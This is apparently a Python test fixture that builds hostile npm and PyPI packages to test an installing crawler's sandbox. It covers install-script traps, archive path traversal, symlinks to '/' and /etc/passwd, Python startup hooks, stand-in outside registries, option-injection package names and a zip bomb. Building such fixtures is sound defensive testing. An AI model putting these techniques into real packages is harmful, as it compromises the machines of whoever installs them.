"""A catalogue of packages that attack whoever installs them: by their files, their manifests, their names.

The server in each is as it should be and says what it finds lying about. Whatever escapes calls itself "planted"; the
addresses of `{stranger}` and `{folder}` are filled in by the test. All are written here; none is anybody's package.
"""

from __future__ import annotations

import json
import stat
import tarfile
import zipfile
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from crawler.introspector.budget import MEBIBYTE
from crawler.records import Reason, TargetKind
from tests.crawler.peers.hostile_packages import NOTHING
from tests.crawler.peers.packages import NODE_PEER, NpmRegistry, acting_wheel, source_archive, wheel

NPM, PYPI = TargetKind.NPM, TargetKind.PYPI
OUTSIDE = (
    *("../planted", "../../planted", "../../../../planted", "../../../../../tmp/planted", "/tmp/planted", "/planted"),
    *("../../../../cache/planted", "../../../../app/planted", "../../../../home/u/planted", "{folder}/planted"),
)
"""Where entries of an archive would like to be."""

CLEAN = r"^node_modules package-lock\.json package\.json$"
WITNESS = NODE_PEER.replace("process.argv.slice(2).join(' ')", "require('fs').readdirSync('/app').sort().join(' ')")
TRAP = "require('fs').writeFileSync('/app/planted', 'x')"


@dataclass(frozen=True)
class Forgery:
    """One package that attacks its installer: `publish` puts it into the registries under its name.

    It ends as an `Attack` does. `asked` is the name that is asked for, where that is another one than its own.
    """

    name: str
    kind: TargetKind
    publish: Callable[[Shelf, str], None]
    reason: Reason | None = None
    says: str = ""
    budget: Mapping[str, Any] = field(default_factory=dict)
    asked: str = ""

    @property
    def pattern(self) -> str:
        """What is to be said: of a wheel that is installed, the witness in it says nothing."""
        return NOTHING if self.kind is PYPI and self.reason is None else self.says


@dataclass(frozen=True)
class Shelf:
    """The registries of a test: a folder of wheels and an npm registry, and the places on the host that it watches."""

    wheels: Path
    npm: NpmRegistry
    host: Mapping[str, Any]

    def fill(self, text: str) -> str:
        return text.replace("{stranger}", self.host["stranger"]).replace("{folder}", self.host["folder"])


def npm(
    files: Mapping[str, str] | None = None, members: tuple[tuple[str, bytes, str], ...] = (), **manifest: Any
) -> Callable[[Shelf, str], None]:
    """Publish to npm: a witness, more `files`, and raw `members` of the archive (name, type, what it links to)."""

    def publish(shelf: Shelf, name: str) -> None:
        infos = []
        for place, kind, link in members:
            info = tarfile.TarInfo(shelf.fill(place))
            info.type, info.linkname = kind, shelf.fill(link)
            infos.append(info)
        filled = {key: _filled(shelf, value) for key, value in ({"bin": "cli.js"} | manifest).items()}
        shelf.npm.add(name, {"cli.js": WITNESS, "trap.js": TRAP, **(files or {})}, members=infos, **filled)

    return publish


def _filled(shelf: Shelf, value: Any) -> Any:
    if isinstance(value, dict):
        return {shelf.fill(key): _filled(shelf, inner) for key, inner in value.items()}
    return shelf.fill(value) if isinstance(value, str) else value


def needs(what: str) -> Callable[[Shelf, str], None]:
    """Publish to npm a package with this dependency."""
    return npm(dependencies={"helper": what})


def pypi(
    files: Mapping[str, str] | None = None, links: Mapping[str, str] | None = None, requires: str = ""
) -> Callable[[Shelf, str], None]:
    """Publish a wheel: a witness of what was planted, more `files`, and `links` as entries of the archive."""

    def publish(shelf: Shelf, name: str) -> None:
        tries = ["names('/app/planted')", "read('/app/planted')", "read('/app/venv/planted')", "prey('/app/*/*')"]
        acting_wheel(shelf.wheels, name, f"burgle({tries!r})", requires=shelf.fill(requires))
        with zipfile.ZipFile(shelf.wheels / f"{name.replace('-', '_')}-1.0-py3-none-any.whl", "a") as archive:
            for place, text in (files or {}).items():
                archive.writestr(shelf.fill(place), text)
            for place, target in (links or {}).items():
                info = zipfile.ZipInfo(shelf.fill(place))
                info.external_attr = (stat.S_IFLNK | 0o777) << 16
                archive.writestr(info, shelf.fill(target))

    return publish


def requires(what: str) -> Callable[[Shelf, str], None]:
    """Publish a wheel with this dependency."""
    return pypi(requires=f"Requires-Dist: helper @ {what}\n")


def scripts(**commands: str) -> Callable[[Shelf, str], None]:
    """Publish a wheel with commands of these names, and one of its own."""
    return lambda shelf, name: wheel(
        shelf.wheels, name, {**commands, name: "main"}, "def main(): raise SystemExit('ran as itself')\n"
    )


def source(shelf: Shelf, name: str) -> None:
    """Publish a package that is to be built, and plants something when it is."""
    source_archive(shelf.wheels, name, shelf.fill("open('{folder}/planted', 'w')\nopen('/app/planted', 'w')\n"))


SCRIPTS = dict.fromkeys(
    ("preinstall", "install", "postinstall", "prepare", "prepublish", "preprepare"), "node trap.js; exit 1"
)
MANY = {f"many/{number}": "" for number in range(6_000)}
ENTRIES = tuple((f"package/{place}" if place[0] == "." else place, tarfile.REGTYPE, "") for place in OUTSIDE)

INNER = {"name": "inner", "version": "1.0.0", "scripts": {"install": "touch /app/planted"}}
LOCK = {
    "": {"dependencies": {"helper": "1.0.0"}},
    "node_modules/helper": {"version": "1.0.0", "resolved": "http://127.0.0.1:1/helper.tgz"},
}
STARTS = {
    "planted.pth": "import pathlib; pathlib.Path('/app/planted').mkdir()\n",
    "sitecustomize.py": "open('/app/venv/planted', 'w')\n",
}
DATA = {
    f"climbs_out_by_its_data-1.0.data/{kind}/{place}": "x"
    for kind in ("data", "scripts", "headers")
    for place in OUTSIDE
}
LINKS = (
    ("package/out", tarfile.SYMTYPE, "/"), ("package/out/app/planted", tarfile.REGTYPE, ""),
    ("package/up", tarfile.SYMTYPE, "../../.."), ("package/up/planted", tarfile.REGTYPE, ""),
    ("package/hard", tarfile.LNKTYPE, "/etc/passwd"), ("package/secret", tarfile.SYMTYPE, "{folder}/secret"),
    ("package/pipe", tarfile.FIFOTYPE, ""), ("package/device", tarfile.CHRTYPE, ""),
)  # fmt: skip
OPTIONS = dict.fromkeys(("--eval", "-c", "a b\n", "../../planted", "\u202ex", ".."), "cli.js")
FAILED, NO_COMMAND, ENDED = Reason.INSTALL_FAILED, Reason.NO_COMMAND, Reason.START_FAILED

NPM_FORGERIES = (
    Forgery("runs-install-scripts", NPM, npm(scripts=SCRIPTS), says=CLEAN),
    Forgery("builds-with-node-gyp", NPM, npm({"binding.gyp": "{'targets': []}"}, gypfile=True), says=CLEAN),
    Forgery(
        "bundles-what-runs-scripts",
        NPM,
        npm(
            {"node_modules/inner/package.json": json.dumps(INNER)},
            bundleDependencies=["inner"],
            dependencies={"inner": "1.0.0"},
        ),
        says=CLEAN,
    ),
    Forgery(
        "brings-its-own-configuration",
        NPM,
        npm({".npmrc": "ignore-scripts=false\nregistry={stranger}/\n"}, scripts=SCRIPTS),
        says=CLEAN,
    ),
    Forgery("climbs-out-of-its-tarball", NPM, npm(members=ENTRIES), says=CLEAN),
    Forgery("links-out-of-its-tarball", NPM, npm(members=LINKS), says=CLEAN),
    Forgery(
        "names-a-command-outside", NPM, npm(bin={"names-a-command-outside": "../../../../usr/bin/env"}), NO_COMMAND
    ),
    Forgery("names-commands-to-be-options", NPM, npm(bin=OPTIONS), NO_COMMAND, "it has none"),
    Forgery(
        "calls-its-commands-node-and-sh",
        NPM,
        npm(bin={"node": "trap.js", "sh": "trap.js", "calls-its-commands-node-and-sh": "cli.js"}),
        says=CLEAN,
    ),
    Forgery("needs-an-address", NPM, needs("{stranger}/helper.tgz"), FAILED, "403 Not a package registry"),
    Forgery("needs-a-git-repository", NPM, needs("git+{stranger}/helper.git"), FAILED, "git error"),
    Forgery("needs-a-repository-by-ssh", NPM, needs("git+ssh://git@127.0.0.1:1/x/helper.git"), FAILED, "git error"),
    Forgery("needs-a-short-hand", NPM, needs("github:nobody.invalid/helper"), FAILED, "git error"),
    Forgery("needs-a-folder-of-the-host", NPM, needs("file:{folder}"), FAILED, "author's machine has: helper$"),
    Forgery("needs-a-file-of-the-host", NPM, needs("file:{folder}/helper.tgz"), FAILED, "machine has: helper.tgz$"),
    Forgery("needs-a-link", NPM, needs("link:{folder}"), FAILED, "author's machine has: link:"),
    Forgery("needs-a-workspace", NPM, needs("workspace:*"), FAILED, r"author's machine has: workspace:\*$"),
    Forgery(
        "needs-a-folder-of-its-own",
        NPM,
        npm({"inner/package.json": '{"name": "helper", "version": "1.0.0"}'}, dependencies={"helper": "file:./inner"}),
        says=CLEAN,
    ),
    Forgery(
        "locks-another-registry",
        NPM,
        npm(
            {"npm-shrinkwrap.json": json.dumps({"lockfileVersion": 3, "packages": LOCK})},
            _hasShrinkwrap=True,
            dependencies={"helper": "1.0.0"},
        ),
        FAILED,
        "403 Not a package registry",
    ),
    Forgery("has-many-files", NPM, npm(MANY), FAILED, "more than 5000 files", {"install_files": 5_000}),
    Forgery("has-a-bottomless-manifest", NPM, npm({"package.json": '{"bin":' + "[" * 50_000}), NO_COMMAND),
    Forgery("no-name", NPM, npm(), FAILED, "not the name", asked="--registry=http://127.0.0.1:1/"),
    Forgery("no-name-but-a-path", NPM, npm(), FAILED, "not the name", asked="../../etc"),
    Forgery("no-plain-name", NPM, npm(), FAILED, "not the name", asked="pl\u0430in"),
)

PYPI_FORGERIES = (
    Forgery("is-built-from-source", PYPI, source, FAILED, "without a wheel, and building one would run its code$"),
    Forgery("runs-when-python-starts", PYPI, pypi(STARTS)),
    Forgery("climbs-out-of-its-wheel", PYPI, pypi(dict.fromkeys(OUTSIDE, "x"))),
    Forgery("climbs-out-by-its-data", PYPI, pypi(DATA), FAILED),
    Forgery("links-out-of-its-wheel", PYPI, pypi(links={"out": "/", "secret": "{folder}/secret"})),
    Forgery("writes-through-its-own-link", PYPI, pypi({"out/planted": "x"}, links={"out": "/app"}), FAILED),
    Forgery("calls-its-command-python", PYPI, scripts(python="main"), FAILED, "reserved name"),
    Forgery("calls-its-commands-sh-and-uv", PYPI, scripts(sh="main", uv="main"), ENDED, "^ran as itself$"),
    Forgery("names-scripts-outside", PYPI, scripts(**{"../../../planted": "main", "/app/planted": "main"}), FAILED),
    Forgery("requires-an-address", PYPI, requires("{stranger}/helper-1.0-py3-none-any.whl"), FAILED),
    Forgery("requires-a-git-repository", PYPI, requires("git+{stranger}/helper"), FAILED),
    Forgery("requires-a-file-of-the-host", PYPI, requires("file://{folder}/helper-1.0-py3-none-any.whl"), FAILED),
    Forgery(
        "is-a-bomb", PYPI, lambda shelf, name: _bomb(shelf.wheels, name), FAILED, "bytes of disk",
        {"install_bytes": 20 * MEBIBYTE},
    ),
    Forgery("no-name-but-an-option", PYPI, pypi(), FAILED, "not the name", asked="-r/etc/passwd"),
)  # fmt: skip


def _bomb(folder: Path, name: str) -> None:
    """Write a wheel of 60 kB that becomes 60 MB."""
    wheel(folder, name, {name: "main"}, "")
    with zipfile.ZipFile(
        folder / f"{name.replace('-', '_')}-1.0-py3-none-any.whl", "a", zipfile.ZIP_DEFLATED
    ) as archive:
        archive.writestr("bomb", b"\0" * 60_000_000)
